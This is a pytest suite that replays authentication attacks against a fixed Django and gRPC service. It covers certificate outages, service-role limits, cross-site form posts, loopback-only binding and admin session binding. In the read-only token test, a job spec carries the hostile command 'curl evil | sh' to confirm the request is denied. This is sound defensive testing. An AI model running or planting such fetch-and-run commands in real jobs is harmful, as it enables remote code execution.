"""The attack suite: each way the authentication was broken, replayed against the fix.

Runs offline: the `cloudflare` fixture (accounts.tests.cloudflare) serves a Cloudflare-shaped
certs endpoint on loopback and signs tokens as Access would; gRPC calls go to an in-process
server (falcon_site.grpc.testing). HTTP and gRPC are both attacked where both apply. Each
section names the rule of docs/decisions.md it checks.
"""
from __future__ import annotations

import logging
import time

import grpc
import pytest
from django.core.signals import setting_changed

from core.grpc.channel import auth_metadata
from falcon_proto.falcon.v1 import common_pb2, experiment_pb2_grpc
from falcon_site.grpc.testing import grpc_channel, grpc_server  # noqa: F401 (fixtures)

pytestmark = pytest.mark.django_db(transaction=True)
WHOAMI = "/api/v1/auth/whoami"


def whoami(api, token):
    return api.get(WHOAMI, HTTP_CF_ACCESS_JWT_ASSERTION=token)


def cold_cache() -> None:
    """Rebuild the verifier (as a restarted process): no key set fetched yet."""
    setting_changed.send(sender=None, setting="FALCON_AUTH_MODE", value="cloudflare",
                         enter=True)


@pytest.mark.usefixtures("uncached_tokens")
# -- AUTH-7: a certs answer without usable keys is an outage, not a lock-out -----------------------

@pytest.mark.parametrize("document", [{"keys": []}, {}, {"keys": [{"kty": "EC", "kid": "x"}]},
                                      {"keys": "nope"}])
def test_certs_without_usable_keys_keep_the_last_good_keys_and_the_cooldown(
        api, cloudflare, settings, caplog, document):
    settings.FALCON_AUTH_JWKS_LIFESPAN_SECONDS = 0.2
    settings.FALCON_AUTH_JWKS_STALE_SECONDS = 60
    settings.FALCON_AUTH_JWKS_RETRY_SECONDS = 60
    assert whoami(api, cloudflare.sign()).status_code == 200
    cloudflare.certs.document = document
    time.sleep(0.3)  # past the lifespan: the next request fetches
    with caplog.at_level(logging.WARNING):
        for _ in range(5):
            assert whoami(api, cloudflare.sign()).status_code == 200
    assert cloudflare.certs.hits == 2  # one fetch of the bad answer, then the back-off holds
    warnings = [r for r in caplog.records if r.levelno >= logging.WARNING
                and r.name.startswith("accounts")]
    assert len(warnings) == 1, [r.getMessage() for r in warnings]


@pytest.mark.parametrize("document", [{"keys": []}, {}])
def test_certs_without_usable_keys_and_no_last_good_set_answer_503_with_retry_after(
        api, cloudflare, settings, document):
    settings.FALCON_AUTH_JWKS_RETRY_SECONDS = 30
    cloudflare.certs.document = document
    for _ in range(3):
        res = whoami(api, cloudflare.sign())
        assert res.status_code == 503, res.content
        assert res.json()["code"] == "unavailable"
        assert 1 <= int(res["Retry-After"]) <= 30
        assert "WWW-Authenticate" not in res  # not a login problem
    assert cloudflare.certs.hits == 1


def test_a_certs_outage_is_unavailable_on_grpc_not_unauthenticated(cloudflare, grpc_channel):
    cloudflare.certs.status = 503
    stub = experiment_pb2_grpc.ExperimentServiceStub(grpc_channel)
    with pytest.raises(grpc.RpcError) as err:
        stub.ListExps(common_pb2.CommonListReq(),
                      metadata=auth_metadata(cloudflare.sign()), timeout=10)
    assert err.value.code() is grpc.StatusCode.UNAVAILABLE


def test_a_certs_outage_on_the_admin_is_503_and_keeps_the_session(client, cloudflare):
    cloudflare.certs.status = 503
    res = client.get("/admin/", HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign())
    assert res.status_code == 503 and int(res["Retry-After"]) >= 1


def test_cli_login_during_a_certs_outage_is_503(client, cloudflare):
    cloudflare.certs.status = 503
    res = client.get("/auth/cli-login", {"port": "4000", "state": "s" * 32},
                     HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign())
    assert res.status_code == 503 and int(res["Retry-After"]) >= 1


# -- AUTH-8: service roles ---------------------------------------------------------------------

def _all_rpcs() -> list[str]:
    """Every RPC the API server serves, read from the generated descriptors."""
    from falcon_proto.falcon.v1 import analysis_pb2, artifact_pb2, experiment_pb2, job_pb2

    names = []
    for module, service in ((experiment_pb2, "ExperimentService"), (job_pb2, "JobService"),
                            (artifact_pb2, "ArtifactService"),
                            (analysis_pb2, "AnalysisRecordService")):
        for method in module.DESCRIPTOR.services_by_name[service].methods:
            names.append(f"/falcon.v1.{service}/{method.name}")
    return names


READS = {"GetExp", "ListExps", "GetJob", "ListJobs", "GetArtifact", "ListArtifacts",
         "GetAnalysisRecord", "ListAnalysisRecords"}
ANALYSIS = {"ListExpsAwaitingAnalysis", "CreateAnalysisRecord", "GetAnalysisRecord",
            "ListAnalysisRecords", "UpdateAnalysisRecord", "DeleteAnalysisRecord",
            "ListRunningAnalyses"}
# What each role may call, written out (not derived from accounts.grpc_auth).
EXPECTED = {
    "exp-controller": READS | {"UpdateExpStatus", "UpdateJobStatus", "UpdateArtifactStatus"},
    "resource-manager": READS | {"UpdateJobStatus"},
    "analyzer": READS | ANALYSIS,
    "maintenance": READS | {"CreateJob", "DeleteJob", "CreateArtifact", "DeleteArtifact"},
    "read-only": READS,
    "user": READS | {"CreateExp", "AbortExp", "DeleteExp"},
}
MATRIX = [(role, rpc) for role in EXPECTED for rpc in _all_rpcs()]


@pytest.mark.parametrize("role,rpc", MATRIX, ids=[f"{r}:{m.rsplit('/', 1)[1]}"
                                                  for r, m in MATRIX])
def test_each_role_calls_exactly_its_rpcs(role, rpc):
    from accounts.grpc_auth import Principal, authorize
    from accounts.principals import ServiceIdentity
    from core.errors import PermissionDenied

    if role == "user":
        principal = Principal(kind="user", user=object())
    else:
        principal = Principal(kind="service",
                              service=ServiceIdentity(name="x.access", roles=frozenset({role})))
    allowed = rpc.rsplit("/", 1)[1] in EXPECTED[role]
    if allowed:
        authorize(principal, rpc)
    else:
        with pytest.raises(PermissionDenied):
            authorize(principal, rpc)


def test_the_internal_token_has_every_controller_role():
    from accounts.grpc_auth import ROLE_METHODS, SERVICE, authorize

    assert SERVICE.service.roles >= {"exp-controller", "resource-manager", "analyzer"}
    for rpc in set().union(*ROLE_METHODS.values()):
        authorize(SERVICE, rpc)


@pytest.fixture
def victim_exp():
    from experiments.tests.factories import make_exp
    from accounts.tests.factories import UserFactory

    return make_exp(creator=UserFactory(email="victim@example.com"))


def test_a_read_only_service_token_cannot_add_jobs_or_move_experiments(
        cloudflare, settings, grpc_channel, victim_exp):
    from falcon_proto.falcon.v1 import experiment_pb2, job_pb2, job_pb2_grpc

    settings.FALCON_CF_SERVICE_TOKENS = ["reader.access"]
    md = auth_metadata(cloudflare.sign(cloudflare.service_claims("reader.access")))
    jobs = job_pb2_grpc.JobServiceStub(grpc_channel)
    exps = experiment_pb2_grpc.ExperimentServiceStub(grpc_channel)
    attacks = [
        (jobs.CreateJob, job_pb2.CreateJobReq(exp_id=victim_exp.pk, role="evil",
                                              task_spec_json='{"command": "curl evil | sh"}')),
        (exps.UpdateExpStatus, experiment_pb2.UpdateExpStatusReq(id=victim_exp.pk,
                                                                 status="Aborting")),
        (exps.AbortExp, experiment_pb2.AbortExpReq(id=victim_exp.pk)),
        (exps.DeleteExp, experiment_pb2.DeleteExpReq(id=victim_exp.pk)),
    ]
    for method, request in attacks:
        with pytest.raises(grpc.RpcError) as err:
            method(request, metadata=md, timeout=10)
        assert err.value.code() is grpc.StatusCode.PERMISSION_DENIED
    victim_exp.refresh_from_db()
    assert victim_exp.status == "Created" and victim_exp.jobs.count() == 1
    # Reading stays allowed.
    exps.GetExp(experiment_pb2.GetExpReq(id=victim_exp.pk), metadata=md, timeout=10)


def test_a_service_token_cannot_abort_over_http(api, cloudflare, settings, victim_exp):
    settings.FALCON_SERVICE_ROLES = {"ctl.access": "exp-controller"}
    token = cloudflare.sign(cloudflare.service_claims("ctl.access"))
    res = api.post(f"/api/v1/exps/{victim_exp.pk}/abort", HTTP_CF_ACCESS_JWT_ASSERTION=token)
    assert res.status_code == 403
    assert api.get(f"/api/v1/exps/{victim_exp.pk}",
                   HTTP_CF_ACCESS_JWT_ASSERTION=token).status_code == 200


def test_a_row_role_wins_and_the_admin_shows_the_effective_role(cloudflare, settings, client):
    from accounts.models import ServicePrincipal, User
    from accounts.selectors import service_role

    settings.FALCON_SERVICE_ROLES = {"a.access": "exp-controller", "b.access": "analyzer"}
    ServicePrincipal.objects.create(common_name="a.access", role="read-only")
    ServicePrincipal.objects.create(common_name="b.access")
    assert service_role(common_name="a.access") == "read-only"
    assert service_role(common_name="b.access") == "analyzer"
    assert service_role(common_name="c.access") == "read-only"
    User.objects.create_superuser("root@example.com", user_id="cf-root")
    res = client.get("/admin/accounts/serviceprincipal/",
                     HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign(email="root@example.com",
                                                                  sub="cf-root"))
    assert res.status_code == 200
    body = res.content.decode()
    assert "analyzer" in body and "FALCON_SERVICE_ROLES" in body


@pytest.mark.parametrize("raw", ["a.access", "a.access=root", "=exp-controller",
                                 "a=exp-controller,a=analyzer"])
def test_a_bad_service_roles_setting_stops_the_server_naming_it(raw):
    from django.core.exceptions import ImproperlyConfigured

    from falcon_site.settings.auth import _service_roles

    with pytest.raises(ImproperlyConfigured, match="FALCON_SERVICE_ROLES"):
        _service_roles(raw)


# -- AUTH-9: the Access cookie does not authenticate cross-site writes --------------------------

@pytest.fixture
def own_exp(cloudflare):
    from accounts.services import user_register
    from experiments.tests.factories import make_exp

    return make_exp(creator=user_register(user_id="cf-sub-bob", email="bob@example.com"))


def test_a_cross_site_form_post_with_the_cookie_cannot_abort(cloudflare, own_exp):
    from django.test import Client

    browser = Client(enforce_csrf_checks=True)
    browser.cookies["CF_Authorization"] = cloudflare.sign()
    for headers in ({"HTTP_ORIGIN": "https://evil.example"},
                    {"HTTP_REFERER": "https://evil.example/page"}, {}):
        res = browser.post(f"/api/v1/exps/{own_exp.pk}/abort", {"x": "1"}, **headers)
        assert res.status_code == 403, res.content
        assert "CSRF" in res.json()["detail"]
    own_exp.refresh_from_db()
    assert own_exp.status == "Created"


def test_a_same_site_post_with_the_cookie_may_abort(cloudflare, own_exp):
    from django.test import Client

    browser = Client(enforce_csrf_checks=True)
    browser.cookies["CF_Authorization"] = cloudflare.sign()
    res = browser.post(f"/api/v1/exps/{own_exp.pk}/abort", HTTP_ORIGIN="http://testserver")
    assert res.status_code == 200, res.content


def test_header_authenticated_clients_need_no_csrf(cloudflare, own_exp):
    from django.test import Client

    res = Client(enforce_csrf_checks=True).post(
        f"/api/v1/exps/{own_exp.pk}/abort", HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign(),
        HTTP_ORIGIN="https://evil.example")
    assert res.status_code == 200, res.content


# -- AUTH-10: the local mode stays local -------------------------------------------------------

@pytest.mark.parametrize("addr", ["0.0.0.0:8000", "[::]:8000", "10.1.2.3:8000", "example.com:80",
                                  "0:8000"])
def test_local_mode_refuses_a_non_loopback_bind_without_the_opt_in(addr):
    from core.ports import local_bind_problem

    refusal, warning = local_bind_problem(addr, mode="local", opt_in=False)
    assert refusal and "FALCON_LOCAL_ALLOW_NONLOOPBACK" in refusal and warning is None
    refusal, warning = local_bind_problem(addr, mode="local", opt_in=True)
    assert refusal is None and "WARNING" in warning
    assert local_bind_problem(addr, mode="cloudflare", opt_in=False) == (None, None)


@pytest.mark.parametrize("addr", ["127.0.0.1:8000", "[::1]:8000", "localhost:8000",
                                  "127.0.0.2:9"])
def test_local_mode_binds_loopback(addr):
    from core.ports import local_bind_problem

    assert local_bind_problem(addr, mode="local", opt_in=False) == (None, None)


def _run(args, env_extra=None):
    import os
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "FALCON_AUTH_MODE": "local", "PYTHONPATH": str(root),
           **(env_extra or {})}
    env.pop("FALCON_LOCAL_ALLOW_NONLOOPBACK", None) if not env_extra else None
    return subprocess.run(args, cwd=root, env=env, capture_output=True, text=True, timeout=60)


@pytest.mark.parametrize("args", [["manage.py", "runlocal", "--http", "0.0.0.0:18000",
                                   "--grpc", "127.0.0.1:18051"],
                                  ["manage.py", "rungrpc", "--addr", "0.0.0.0:18051"]])
def test_runlocal_and_rungrpc_refuse_a_non_loopback_bind(args):
    import sys

    result = _run([sys.executable, *args])
    assert result.returncode != 0
    assert "refusing to listen on 0.0.0.0" in result.stderr


def test_gunicorn_refuses_a_non_loopback_bind_in_local_mode():
    import shutil
    import sys
    from pathlib import Path

    gunicorn = Path(sys.executable).parent / "gunicorn"
    if not gunicorn.exists() and not shutil.which("gunicorn"):
        pytest.skip("gunicorn is not installed in this environment")
    result = _run([str(gunicorn), "falcon_site.wsgi", "--bind", "0.0.0.0:18002"])
    assert result.returncode != 0
    assert "refusing to listen on 0.0.0.0" in result.stderr


def test_a_forged_host_header_from_a_remote_peer_is_refused_in_local_mode(client):
    res = client.post("/api/v1/auth/token", {"email": "root@example.com"},
                      content_type="application/json", HTTP_HOST="localhost",
                      REMOTE_ADDR="203.0.113.9")
    assert res.status_code == 403
    res = client.post("/api/v1/auth/token", {"email": "root@example.com"},
                      content_type="application/json", HTTP_HOST="localhost",
                      REMOTE_ADDR="127.0.0.1")
    assert res.status_code == 201


def test_the_opt_in_serves_remote_peers(client, settings):
    settings.FALCON_LOCAL_ALLOW_NONLOOPBACK = True
    res = client.get("/api/v1/auth/config", REMOTE_ADDR="203.0.113.9")
    assert res.status_code == 200


# -- AUTH-11: admin sessions are bound to the mode and identity that made them ------------------

def test_a_local_password_session_does_not_open_the_admin_in_cloudflare_mode(settings, client):
    from accounts.models import User

    User.objects.create_superuser("root@example.com", password="pw-123456789")
    settings.FALCON_AUTH_MODE = "local"
    assert client.login(username="root@example.com", password="pw-123456789")
    assert client.get("/admin/").status_code == 200
    settings.FALCON_AUTH_MODE = "cloudflare"
    settings.FALCON_CF_TEAM_DOMAIN = "https://acme.cloudflareaccess.com"
    settings.FALCON_CF_AUDIENCES = ["aud"]
    res = client.get("/admin/")
    assert res.status_code == 302 and "/login/" in res["Location"]


def test_an_access_session_needs_the_matching_header_on_every_request(cloudflare, client):
    from accounts.models import User

    User.objects.create_superuser("bob@example.com", user_id="cf-sub-bob")
    assert client.get("/admin/", HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign()).status_code \
        == 200
    assert client.get("/admin/").status_code == 302  # no header: the session ends
    User.objects.create_superuser("eve@example.com", user_id="cf-sub-eve")
    client.get("/admin/", HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign())
    res = client.get("/admin/", HTTP_CF_ACCESS_JWT_ASSERTION=cloudflare.sign(
        email="eve@example.com", sub="cf-sub-eve"))
    assert res.status_code == 200 and res.wsgi_request.user.email == "eve@example.com"


def test_the_readme_lists_every_auth_setting():
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    readme = (root / "README.md").read_text()
    source = (root / "falcon_site/settings/auth.py").read_text()
    names = set(re.findall(r"^(FALCON_[A-Z_]+) =", source, re.M)) - {"FALCON_INTERNAL_TOKEN_FILE",
                                                                     "FALCON_LOCAL_SIGNING_KEY"}
    shown = set(re.findall(r"FALCON_[A-Z_]+", readme))
    suffixes = {m for m in re.findall(r"`(_[A-Z_]+SECONDS)`", readme)}
    missing = {n for n in names if n not in shown
               and not any(n == "FALCON_AUTH_JWKS" + s for s in suffixes)}
    assert not missing, missing
